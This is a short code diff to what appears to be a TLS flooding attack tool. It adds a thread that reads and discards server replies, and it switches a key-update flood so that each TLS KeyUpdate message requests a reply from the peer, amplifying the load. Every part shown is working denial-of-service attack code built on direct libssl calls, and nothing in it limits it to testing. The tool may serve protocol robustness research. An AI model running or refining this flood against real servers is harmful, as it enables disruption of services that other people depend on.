@@ -99,10 +99,11 @@ class Buffered:
 
 
 def handshake_flood(attacker, connection, begin):
-    """Message after message of TLS itself, none of the application."""
+    """Message after message of TLS itself, none of the application; answers are thrown away unread."""
     library = ctypes.CDLL("libssl.so.3")
     stream = Buffered(attacker, connection)
     pointer = stream.pointer
+    threading.Thread(target=drain, args=(connection, ), daemon=True).start()
     attacker.began.set()
     while not attacker.is_over:
         for _ in range(500):
@@ -111,9 +112,18 @@ def handshake_flood(attacker, connection, begin):
         stream.flush()
 
 
+def drain(connection):
+    try:
+        while connection.recv(1 << 20):
+            pass
+    except OSError:
+        pass
+
+
 @attack
 def key_updates(attacker, connection):
-    handshake_flood(attacker, connection, lambda library, pointer: library.SSL_key_update(pointer, 0))
+    """Each wants an answer, which costs the client more than the question costs the server."""
+    handshake_flood(attacker, connection, lambda library, pointer: library.SSL_key_update(pointer, 1))
 
 
 @attack
